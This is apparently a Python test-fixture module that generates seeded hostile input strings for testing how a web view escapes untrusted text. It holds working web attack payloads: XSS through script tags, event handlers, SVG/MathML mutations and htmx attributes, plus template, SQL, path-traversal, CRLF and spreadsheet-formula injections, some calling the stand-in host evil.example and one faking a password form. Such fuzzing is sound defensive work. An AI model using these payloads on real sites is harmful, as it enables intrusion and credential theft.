"""Hostile texts of our own making: whatever a stranger could write to get out of their box.

Every payload tries the same few things, so that success shows: it sets `window.__pwned`, opens a
dialog, or asks `https://evil.example` for something. Each text begins with a mark of its own
(`hz0042`), so that a test can tell which ones a view has shown.
"""

from collections.abc import Callable
from random import Random

COUNT = 4_000
LONG_WORD = 60_000
_RUN = "window.__pwned=1"
_EVIL = "https://evil.example"
_EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onfocusin", "onbegin", "onend",
    "ontoggle", "onpointerenter", "onanimationstart", "ontransitionend", "onscroll", "oncopy",
    "onbeforematch", "oncontentvisibilityautostatechange", "onwheel", "onauxclick", "onresize",
)  # fmt: skip
_TAGS = (
    "img", "svg", "body", "details", "video", "audio", "iframe", "input", "select", "marquee",
    "object", "embed", "form", "button", "a", "div", "style", "link", "custom-element", "dialog",
)  # fmt: skip


def _scripts(chance: Random) -> str:
    return chance.choice(
        (
            f"<script>{_RUN}</script>",
            f"<ScRiPt >{_RUN}</sCrIpT\t>",
            f"<script src={_EVIL}/x.js></script>",
            f"<script type=module>import('{_EVIL}/m.js')</script>",
            f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
            f"</title></style></textarea></noscript></template><script>{_RUN}</script>",
            f"--></script><script>{_RUN}</script><!--",
            f"<script\x0c>{_RUN}</script\x0b>",
            f'<script type="application/json">{{"a":"</script><script>{_RUN}</script>"}}',
            f"<SCRIPT/x/y=z/src=data:text/javascript,{_RUN}></SCRIPT>",
            f"\\u003cscript\\u003ealert(1)<script>fetch('{_EVIL}')</script>",
        )
    )


def _handlers(chance: Random) -> str:
    tag, event = chance.choice(_TAGS), chance.choice(_EVENTS)
    quote = chance.choice(('"', "'", ""))
    return chance.choice(
        (
            f"<{tag} src=x {event}={quote}{_RUN}{quote}>",
            f"<{tag}/{event}={quote}{_RUN}{quote}//",
            f'" {event}="{_RUN}" autofocus tabindex=0 x="',
            f"' {event}='{_RUN}' autofocus tabindex=0 x='",
            f"` {event}=`{_RUN}` x=`",
            f"x {event}={_RUN} autofocus ",
            f'"><{tag} open {event}={_RUN} style=animation:x src=y>',
            f'"/><{tag.upper()} {event.title()}=alert(1)>',
        )
    )


def _mutating(chance: Random) -> str:
    run = f"<img src=1 onerror={_RUN}>"
    return chance.choice(
        (
            f"<svg><script>{_RUN}</script></svg>",
            f"<svg/onload={_RUN}>",
            f'<svg><animate xlink:href=#x attributeName=href values="javascript:{_RUN}"/><a id=x>',
            f'<svg><set attributeName=onmouseover to="{_RUN}"></svg>',
            f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
            f'<svg><use href="data:image/svg+xml,<svg id=x onload={_RUN}>#x"/></svg>',
            f"<math><mtext><table><mglyph><style><!--</style>{run}",
            f'<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;{run[1:]}">',
            f'<noscript><p title="</noscript>{run}">',
            f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{run}'>",
            f'<svg></p><style><g title="</style>{run}">',
            f"<select><template><style><!--</style><a rel='--></style></template>{run}'>",
            f"<xmp><p title='</xmp>{run}'>",
            f"<table><td>{run}<caption><svg><desc>{run}",
            f"<math href=javascript:{_RUN}>click</math>",
        )
    )


def _templates(chance: Random) -> str:
    return chance.choice(
        (
            "{{7*7}}", "{{ self.__init__.__globals__ }}", "{% for x in range(10**9) %}{% endfor %}",
            "{% include '/etc/passwd' %}", "{# comment", "${7*7}", "#{7*7}", "<%= 7*7 %>",
            f"{{{{constructor.constructor('{_RUN}')()}}}}", "%s %n %(x)s", "{0} {b!r}",
            "{{ static('style.css') }}", "{%- block main -%}", "$(id)", "`id`", "@{1+1}", "*{x}",
            "[red]bold[/red] [/] [link=https://evil.example]x[/link]", "{{ config }}", "@@html",
        )
    )  # fmt: skip


def _exchanges(chance: Random) -> str:
    data = chance.choice(("", "data-"))
    return chance.choice(
        (
            f'<div {data}hx-get="{_EVIL}/x" {data}hx-trigger="load">',
            f'<div {data}hx-on:load="{_RUN}" {data}hx-on::after-settle="{_RUN}">',
            f'" {data}hx-on:click="{_RUN}" {data}hx-get="/incidents" {data}hx-trigger="load',
            f'<div {data}hx-vals="js:{{x: {_RUN}}}" {data}hx-post="/x" {data}hx-trigger=revealed>',
            '<main id="main" hx-swap-oob="innerHTML">gone</main>',
            f'<template hx type="partial" hx-target="body">{_RUN}</template>',
            f'<hx-partial hx-target="#main"><script>{_RUN}</script></hx-partial>',
            f'<a {data}hx-boost="true" href="{_EVIL}">boost</a>',
            f'<meta name="htmx-config" content=\'{{"selfRequestsOnly":false}}\'>{data}hx-ext="x"',
            f'<form {data}hx-post="/incidents/x/resolve" {data}hx-trigger="every 1s">',
            f'<div {data}hx-trigger="click[{_RUN}]" {data}hx-delete="/">',
            f'<div sse-connect="{_EVIL}/events" ws-connect="wss://evil.example">',
        )
    )


def _addresses(chance: Random) -> str:
    return chance.choice(
        (
            f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}//https://x", f"java\tscript:{_RUN}",
            f"\x01javascript:{_RUN}", f"javascript&colon;{_RUN}", f"javascript:/*https://a*/{_RUN}",
            f"data:text/html,<script>{_RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
            f"vbscript:{_RUN}", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x",
            f"{_EVIL}/#<script>{_RUN}</script>", f'{_EVIL}/"onclick="{_RUN}',
            f"https://bank.example@evil.example/{'a' * chance.randint(1, 400)}",
            f"https://127.0.0.1/incidents/x/resolve?{chance.random()}", "https://[::1", "https:",
            "../../../../etc/passwd", "/incidents/..%2f..%2f", "?range=30d&from=<script>", "#main",
            f"{_EVIL}/%00%0d%0aSet-Cookie:x=1", "blob:null/1", "about:blank", "intent://x#Intent;end",
        )
    )  # fmt: skip


def _unclosed(chance: Random) -> str:
    return chance.choice(
        (
            "<!--", "<!-- --!>", "--><!--", "<![CDATA[", "]]>", '<a href="', "<a href='", "<div",
            "<textarea>", "<plaintext>", "<select>", "<title>", "<xmp>", "<listing>", "<noframes>",
            "</main></body></html>", "</table></td></tr>", "</script>", "<table>", "<template>",
            f"<base href={_EVIL}/>", f'<meta http-equiv=refresh content="0;url={_EVIL}">',
            f"<link rel=stylesheet href={_EVIL}/x.css>", "<style>*{display:none}</style>",
            f"<style>@import '{_EVIL}/x.css';</style>", f"<iframe src={_EVIL}></iframe>",
            f'<iframe srcdoc="<script>{_RUN}</script>">', f"<object data={_EVIL}></object>",
            f"<img src={_EVIL}/pixel.gif width=9999 height=9999>", f"<video poster={_EVIL}/v.png>",
            f"<form action={_EVIL}><input name=password autofocus><button>Log in</button>",
            '<div style="position:fixed;inset:0;z-index:9999;background:red">you are hacked</div>',
            "<p id=main>", '<input type=hidden name="by" value="x">', "<frameset>", "<image src=x>",
            "&lt;b&gt;", "&#x3C;script&#x3E;", "&#0;", "&amp", "&notanentity;", "&#99999999;",
            '"', "'", "<", ">", "&", "=\"'>", f"<link rel=preconnect href={_EVIL}>", "<?xml ?>",
        )
    )  # fmt: skip


def _directions(chance: Random) -> str:
    return chance.choice(
        (
            "\u202egnirts a \u202dright\u202c to left", "\u2066isolated \u2067never closed",
            "\u200f\u061c\u200e\u202b\u202e" * 20, "\u202e" * 200 + "txt.exe",
            "\u0627\u0644\u062e\u062f\u0645\u0629 \u0633\u064a\u0626\u0629 \u062c\u062f\u0627 "
            * chance.randint(1, 40),
            "\u05d4\u05e9\u05d9\u05e8\u05d5\u05ea \u05e0\u05d5\u05e8\u05d0 (a) [b] {c} " * 9,
            "\u2069\u2069\u2069\u202c\u202c closes what it never opened", "\u2028\u2029\x85",
        )
    )  # fmt: skip


def _marks(chance: Random) -> str:
    times = chance.randint(10, 120)
    return chance.choice(
        (
            "Z\u0351\u036b\u0343\u036a\u0302" * times, "a" + "\u0300" * 2_000, "\u0e49" * times,
            "e\u0301\u0327\u20dd" * times, "\u200b\u200c\u200d\u2060\ufeff" * times,
            "\u3164\u115f\u1160\u2800" * times, "\u0fd5\u0f39" * times, "\ufdfd" * times,
            "\U00012031" * times, "\U0001242b" * times, "\ua9c1" * times,
        )
    )  # fmt: skip


def _emoji(chance: Random) -> str:
    times = chance.randint(1, 80)
    return chance.choice(
        (
            "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * times,
            "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f" * times,
            "\U0001f1fa\U0001f1f8" * times, "\u2764\ufe0f\u200d\U0001f525" * times,
            "\U0001f44d\U0001f3ff" * times, "\u200d" * 300, "1\ufe0f\u20e3" * times,
        )
    )  # fmt: skip


def _controls(chance: Random) -> str:
    return chance.choice(
        (
            "NUL \0 inside", "\x1b[31mred\x1b[0m\x07\x08\x7f", "\x1b]8;;https://evil.example\x07x",
            "\x1b]0;title\x07\x1b[2J\x1b[H", "\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<b>x", "\x9b31m",
            "\uffff\ufffe\ufdd0\ue000", "\x0b\x0c\x1c\x1d\x1e", "data: x\n\nevent: changed",
            "".join(chr(code) for code in range(32)), "\ufff9a\ufffab\ufffb",
        )
    )  # fmt: skip


def _formats(chance: Random) -> str:
    return chance.choice(
        (
            f'=HYPERLINK("{_EVIL}","a")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1", "-2+3", "\t=1+1",
            f"[click]({_EVIL})", f"![x]({_EVIL}/pixel.png)", f"[x](javascript:{_RUN})", "# big",
            "```\nfence", "| a | b |\n|---|---|", "~~gone~~ **bold** <br>", f"<{_EVIL}|click me>",
            "<!channel> <!here> <@U123> <#C1>", "*bold* _it_ `code` > quote", ":skull:" * 40,
            "'; DROP TABLE mentions; --", "%' OR 1=1 --", "\\u003cscript\\u003e", "\\x3cimg\\x3e",
            f"</script><script>{_RUN}</script>", f'"}};{_RUN};//', f"';{_RUN};//", f"`;{_RUN};`",
            f"\u2028{_RUN}\u2029//", '{"__proto__":{"x":1}}', "]}'", f"*/{_RUN}/*", "\\", "\\\\'",
            f"background:url({_EVIL})", f"expression({_RUN})", "};*{display:none}", "\n\n---\n",
            f"jaVasCript:/*-/*`/*'/*\"/**/(/* */oNcliCk={_RUN} )//</stYle/</titLe/</teXtarEa/",
            f"</scRipt/--!>\\x3csVg/<sVg/oNloAd={_RUN}//>\\x3e",
        )
    )  # fmt: skip


def _long(chance: Random) -> str:
    many = chance.randint(300, 3_000)
    return chance.choice(
        ("W" * many, "\u6f22" * many, "lost.bag/" * (many // 9), "\u0153\u0327" * many,
         "a\u00ad" * many, "x\u00a0" * many, "_" * many, "i " * many, "\n" * 400, "<b>" * many)
    )  # fmt: skip


FAMILIES: tuple[Callable[[Random], str], ...] = (
    _scripts, _handlers, _mutating, _templates, _exchanges, _addresses, _unclosed, _directions,
    _marks, _emoji, _controls, _formats, _long,
)  # fmt: skip
_HUGE = ("W" * LONG_WORD, "\u6f22" * (LONG_WORD // 3), f"<script>{_RUN}</script>" * 1_500)


def mark_of(number: int) -> str:
    """The mark that text `number` begins with."""
    return f"hz{number:04}"


def texts(seed: int, count: int = COUNT) -> list[str]:
    """Hostile texts, the same for a seed: every family in turn, mixtures, a few very long ones."""
    chance = Random(seed)
    made = []
    for number in range(count):
        if number % 400 == 399:
            body = _HUGE[number // 400 % len(_HUGE)]
        else:
            body = FAMILIES[number % len(FAMILIES)](chance)
            for _ in range(chance.choice((0, 0, 1, 2))):
                body += chance.choice(("", " ", "\n")) + chance.choice(FAMILIES)(chance)
        made.append(f"{mark_of(number)} {body}")
    return made


BRANDS = (
    "<script>window.__pwned=1</script>",
    '"><img src=x onerror=window.__pwned=1>',
    "' onmouseover='window.__pwned=1' autofocus onfocus='window.__pwned=1",
    "</title></main><svg onload=window.__pwned=1>",
    "{{7*7}}${7*7}{% raw %}",
    '" hx-get="https://evil.example" hx-trigger="load" x="',
    "javascript:window.__pwned=1",
    "../../incidents?x=<b>#main",
    "a/b\\c%2Fd%00",
    "?range=24h&from=1#top",
    "<!-- never closed",
    "&lt;b&gt; &amp; &#x3C;script&#x3E;",
    '=HYPERLINK("https://evil.example","a")',
    "'; DROP TABLE buckets; --",
    "W" * 100,
    "\u6f22" * 100,
    "Z\u0351\u036b\u0343\u036a\u0302" * 16,
    "\u0627\u0644\u062e\u062f\u0645\u0629 (a) [b]",
    "\U0001f44d\U0001f3ff" * 30,
    '</script><script>window.__pwned=1</script>{"a":"',
    "data:text/html,<script>window.__pwned=1</script>",
    "`${window.__pwned=1}` \\u003cimg\\u003e",
    "constructor",
    "..",
)
"""Names that a source may give a brand (one line of at most 100 characters that can be seen)."""
